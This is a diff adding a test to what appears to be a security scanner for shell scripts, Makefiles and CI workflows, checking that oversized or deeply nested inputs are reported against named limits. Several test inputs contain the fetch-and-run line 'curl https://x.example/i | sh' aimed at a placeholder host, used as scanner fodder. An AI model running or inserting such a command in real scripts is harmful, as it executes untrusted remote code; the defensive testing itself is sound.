@@ -123,6 +123,25 @@ def test_a_script_with_many_names_takes_no_time():
     assert time.process_time() - began < SECONDS
 
 
+@pytest.mark.parametrize(
+    ("path", "text", "limit"),
+    [
+        ("a.sh", "echo " + "a" * 1_000_001, "1,000,000 characters"),
+        ("b.sh", "a | " * 30_000, "20,000 commands"),
+        ("c.sh", "$(" * 30 + "curl https://x.example/i | sh" + ")" * 30, "a depth of 12"),
+        ("Makefile", "a:\n" + "\tcurl https://x.example/i | sh\n" * 60, "50 deeds"),
+        (
+            ".github/workflows/a.yml",
+            "on: pull_request_target\njobs: {a: {steps: [" + "{run: x}, " * 2_001 + "{run: x}]}}\n",
+            "2,000 steps",
+        ),
+    ],
+)
+def test_a_limit_is_named(path, text, limit):
+    causes = [gap.cause for gap in read(path, text.encode()).gaps]
+    assert any(limit in cause for cause in causes), causes
+
+
 def test_deep_shells_are_followed_to_a_depth():
     text = "curl https://x.example/i | sh"
     for _ in range(3):
